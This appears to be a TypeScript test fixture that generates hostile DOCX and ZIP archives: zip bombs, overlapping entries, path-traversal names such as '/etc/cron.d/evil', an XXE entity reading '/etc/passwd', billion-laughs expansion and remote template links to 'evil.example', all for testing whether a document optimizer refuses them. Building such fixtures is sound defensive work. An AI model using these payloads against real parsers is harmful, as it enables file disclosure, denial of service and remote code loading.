import { strToU8, type Zippable, zipSync } from "fflate";
import { file, type HostileFile } from "./optimizer-hostile.js";
import { hugePng } from "./optimizer-hostile-pictures.js";

const BODY = "<w:p>Hello</w:p>".repeat(500);

function docx(more: Zippable = {}): Buffer {
  const parts: Zippable = {
    "[Content_Types].xml": strToU8("<Types/>"),
    "word/document.xml": strToU8(`<w:document>${BODY}</w:document>`),
    ...more,
  };
  return Buffer.from(zipSync(parts, { level: 1 }));
}

/** Changes a field of the first entry's record in the directory. */
function withDirectory(change: (bytes: Buffer, at: number) => void): Buffer {
  const bytes = docx();
  change(bytes, bytes.indexOf("PK\x01\x02"));
  return bytes;
}

/** One packed megabyte that a thousand entries of the directory share. */
function overlapping(): Buffer {
  const one = Buffer.from(zipSync({ "word/a.xml": new Uint8Array(900_000).map((_, at) => (at * 7_919) % 251) }));
  const start = one.indexOf("PK\x01\x02");
  const record = one.subarray(start, one.lastIndexOf("PK\x05\x06"));
  const records = Array.from({ length: 1_000 }, (_, at) => {
    const copy = Buffer.from(record);
    copy.write(`word/${String(at).padStart(3, "0")}xx`, 46, "latin1");
    return copy;
  });
  const types = Buffer.from("[Content_Types].xml word/", "latin1");
  const end = Buffer.from(one.subarray(one.lastIndexOf("PK\x05\x06")));
  end.writeUInt16LE(records.length, 8);
  end.writeUInt16LE(records.length, 10);
  end.writeUInt32LE(record.length * records.length, 12);
  end.writeUInt16LE(types.length, 20);
  return Buffer.concat([one.subarray(0, start), ...records, end, types]);
}

const rels = (target: string) =>
  strToU8(`<Relationships><Relationship Type="http://x/attachedTemplate" Target="${target}"/></Relationships>`);
const laughs = () => {
  const entities = Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`);
  return strToU8(`<!DOCTYPE a [<!ENTITY a0 "ha">${entities.join("")}]><a>&a20;</a>`);
};

export const HOSTILE_ARCHIVES: HostileFile[] = [
  file("an entry that is a bomb", "refused", () => docx({ "word/bomb.xml": new Uint8Array(60_000_000) })),
  file("many entries that say to be a bomb together", "refused", () => {
    const bytes = docx(Object.fromEntries(Array.from({ length: 30 }, (_, at) => [`word/${at}.xml`, strToU8("<a/>")])));
    for (let at = bytes.indexOf("PK\x01\x02"); at >= 0; at = bytes.indexOf("PK\x01\x02", at + 1)) {
      bytes.writeUInt32LE(9_000_000, at + 24);
    }
    return bytes;
  }),
  file("too many entries", "refused", () =>
    docx(Object.fromEntries(Array.from({ length: 6_000 }, (_, at) => [`word/${at}.xml`, new Uint8Array(1)]))),
  ),
  file("entries that overlap", "refused", overlapping),
  file("an archive within the archive", "refused", () => docx({ "word/a.zip": zipSync({ a: strToU8("a") }) })),
  file("an archive within, by another name", "refused", () => docx({ "word/a.bin": zipSync({ a: strToU8("a") }) })),
  file("a path that leaves the folder", "refused", () => docx({ "../../evil.txt": strToU8("x") })),
  file("an absolute path", "refused", () => docx({ "/etc/cron.d/evil": strToU8("x") })),
  file("a drive's path", "refused", () => docx({ "C:/evil.txt": strToU8("x") })),
  file("two entries of one name", "refused", () => {
    const bytes = docx({ "word/documens.xml": strToU8("<x/>") });
    return Buffer.from(bytes.toString("latin1").replaceAll("documens", "document"), "latin1");
  }),
  file("a size that lies", "kept", () => withDirectory((bytes, at) => bytes.writeUInt32LE(3, at + 24))),
  file("a checksum that lies", "kept", () => withDirectory((bytes, at) => bytes.writeUInt32LE(3, at + 16))),
  file("an offset that lies", "kept", () => withDirectory((bytes, at) => bytes.writeUInt32LE(0xfffffff0, at + 42))),
  file("an encrypted entry", "kept", () => withDirectory((bytes, at) => bytes.writeUInt16LE(1, at + 8)), {
    safety: "unchecked",
  }),
  file("an unknown compression", "kept", () => withDirectory((bytes, at) => bytes.writeUInt16LE(99, at + 10))),
  file("an archive that is cut off", "kept", () => docx().subarray(0, -30)),
  file("an entity from a file", "refused", () =>
    docx({ "word/a.xml": strToU8('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>') }),
  ),
  file("entities that multiply", "refused", () => docx({ "word/a.xml": laughs() })),
  file("a template from the web", "refused", () =>
    docx({ "word/_rels/settings.xml.rels": rels("https://evil.example/a.dotm") }),
  ),
  file("a template from a share", "refused", () =>
    docx({ "word/_rels/settings.xml.rels": rels("\\\\evil.example\\share\\a.dotm") }),
  ),
  file("macros", "kept", () => docx({ "word/vbaProject.bin": strToU8("Attribute VB_Name") }), { safety: "active" }),
  file(
    "an OpenDocument with macros",
    "kept",
    () => {
      const mimetype = strToU8("application/vnd.oasis.opendocument.text");
      const parts: Zippable = { mimetype: [mimetype, { level: 0 }], "Basic/Standard/a.xml": strToU8("<x/>") };
      return Buffer.from(zipSync(parts));
    },
    { safety: "active" },
  ),
  file("a picture in it that is a bomb", "harmless", () => docx({ "word/media/a.png": hugePng(16_000, 16_000) })),
  file("XML nested 100,000 deep", "harmless", () =>
    docx({ "word/deep.xml": strToU8("<a>".repeat(100_000) + "</a>".repeat(100_000)) }),
  ),
  file("a plain archive, whatever is in it", "kept", () => Buffer.from(zipSync({ "a.exe": strToU8("MZ") })), {
    safety: "unchecked",
  }),
];
